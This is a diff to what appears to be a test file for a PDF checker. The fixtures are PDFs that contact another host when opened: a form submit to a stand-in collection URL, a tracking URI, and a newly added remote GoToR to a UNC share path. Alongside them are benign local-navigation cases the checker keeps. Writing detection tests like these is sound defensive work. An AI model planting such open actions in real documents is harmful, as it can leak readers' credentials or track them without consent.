@@ -58,10 +58,12 @@ OPENING_FETCHES = {   # E404: asks another host on opening
     "open-submit.pdf": _pdf_opening("/OpenAction 9 0 R",
                                     "<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.invalid/in) >> >>"),
     "page-open-uri.pdf": _pdf_opening("", page="/AA << /O << /S /URI /URI (https://track.example.invalid/p) >> >>"),
+    "open-share.pdf": _pdf_opening("/OpenAction << /S /GoToR /F (\\\\\\\\files.example.invalid\\\\s\\\\a.pdf) /D [0 /Fit] >>"),
 }
 OPENING_KEPT = {
     "open-page.pdf": _pdf_opening("/OpenAction [3 0 R /Fit] /PageLabels << /Nums [0 << /S /D >>] >>"),
     "open-goto.pdf": _pdf_opening("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
+    "open-beside.pdf": _pdf_opening("/OpenAction << /S /GoToR /F (annex.pdf) /D [0 /Fit] >>"),
     # A form field's keystroke and calculation scripts run as the reader types, not on opening.
     "field-scripts.pdf": _pdf_opening("", page="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>",
                                       extra="<< /FT /Tx /T (amount) /AA << /K << /S /JavaScript /JS "
